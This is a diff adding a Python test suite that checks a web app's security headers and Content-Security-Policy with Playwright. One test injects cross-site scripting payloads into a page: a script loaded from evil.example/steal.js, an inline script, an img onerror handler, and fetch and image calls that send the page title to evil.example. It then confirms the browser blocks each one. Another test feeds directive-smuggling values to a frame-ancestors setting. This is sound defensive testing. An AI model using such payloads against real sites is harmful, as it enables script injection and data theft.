@@ -1,0 +1,124 @@
+"""A page never runs what comes from elsewhere, and says so to the browser."""
+
+import os
+import urllib.error
+import urllib.request
+from collections.abc import Iterator
+
+import pytest
+from playwright.sync_api import Page, sync_playwright
+
+from content import PAGES, path_of
+from tests import chromium, server
+from web.protection import FRAMES_SETTING, frame_ancestors
+
+_VIOLATIONS = """
+window.violations = [];
+document.addEventListener("securitypolicyviolation",
+  it => violations.push(`${it.violatedDirective} ${it.blockedURI} ${it.sourceFile}`));
+"""
+
+
+@pytest.fixture(scope="module")
+def page() -> Iterator[Page]:
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(
+            executable_path=chromium.found(), args=list(chromium.ARGUMENTS)
+        )
+        page = browser.new_page()
+        page.add_init_script(_VIOLATIONS)
+        yield page
+        browser.close()
+
+
+def headers(address: str) -> dict[str, str]:
+    try:
+        with urllib.request.urlopen(address, timeout=20) as answer:
+            return dict(answer.headers)
+    except urllib.error.HTTPError as answer:
+        return dict(answer.headers)
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "",
+        "claim",
+        "none",
+        "api/figures.json",
+        "robots.txt",
+        "app/static/style.css",
+        "_stcore/metrics",
+    ],
+)
+def test_every_answer_carries_the_headers(site, path):
+    found = headers(f"{site}/{path}")
+    assert found["x-content-type-options"] == "nosniff"
+    assert found["referrer-policy"] == "strict-origin-when-cross-origin"
+    assert "camera=()" in found["permissions-policy"]
+    rules = dict(rule.split(" ", 1) for rule in found["content-security-policy"].split("; "))
+    assert rules["default-src"] == "'self'"
+    assert "'unsafe" not in rules["script-src"] and "*" not in rules["script-src"]
+    assert rules["object-src"] == "'none'" and rules["base-uri"] == "'self'"
+    assert rules["frame-ancestors"] == "*"
+
+
+@pytest.mark.parametrize("name", PAGES)
+def test_no_page_needs_what_the_headers_forbid(page, site, name):
+    page.goto(f"{site}/{path_of(name)}?rental_rate=9")
+    way_on = page.locator(".st-key-way_on")
+    way_on.wait_for(state="attached")
+    for slider in page.get_by_role("slider").all()[:1]:
+        slider.press("ArrowLeft")
+    for summary in page.locator("[data-testid=stExpander] summary").all()[:3]:
+        summary.click()
+    page.wait_for_timeout(1000)
+    assert page.evaluate("violations") == []
+
+
+def test_what_is_smuggled_in_does_not_run(page, site):
+    page.goto(f"{site}/claim")
+    page.locator(".st-key-way_on").wait_for(state="attached")
+    page.evaluate(
+        """() => {
+            const foreign = document.createElement("script");
+            foreign.src = "https://evil.example/steal.js";
+            const inline = document.createElement("script");
+            inline.textContent = "window.stolen = true";
+            document.body.append(foreign, inline);
+            document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='stolen = true'>");
+            new Image().src = "https://evil.example/" + document.title;
+            fetch("https://evil.example/").catch(() => {});
+        }"""
+    )
+    page.wait_for_function("violations.length >= 5")
+    assert page.evaluate("window.stolen") is None
+    forbidden = {each.split(" ")[0] for each in page.evaluate("violations")}
+    assert forbidden == {"script-src-elem", "script-src-attr", "img-src", "connect-src"}
+
+
+@pytest.mark.parametrize(
+    "given", ["'none'", "'self'", "*", "'self' https://example.org https://*.example.com:8443"]
+)
+def test_who_may_show_a_page_inside_theirs_is_a_setting(monkeypatch, given):
+    monkeypatch.setenv(FRAMES_SETTING, given)
+    assert frame_ancestors() == given
+
+
+@pytest.mark.parametrize("given", ["'self'; script-src *", "a,b", "{sockets}", "ex ample'", "x\ny"])
+def test_a_setting_that_would_say_something_else_is_refused_by_name(monkeypatch, given):
+    monkeypatch.setenv(FRAMES_SETTING, given)
+    with pytest.raises(ValueError, match=FRAMES_SETTING):
+        frame_ancestors()
+
+
+def test_by_itself_the_story_may_be_shown_anywhere(monkeypatch):
+    monkeypatch.delenv(FRAMES_SETTING, raising=False)
+    assert frame_ancestors() == "*"
+
+
+def test_the_setting_reaches_the_pages(monkeypatch):
+    monkeypatch.setitem(os.environ, FRAMES_SETTING, "'self' https://example.org")
+    with server.running() as fresh:
+        policy = headers(f"{fresh.address}/claim")["content-security-policy"]
+    assert policy.endswith("frame-ancestors 'self' https://example.org")
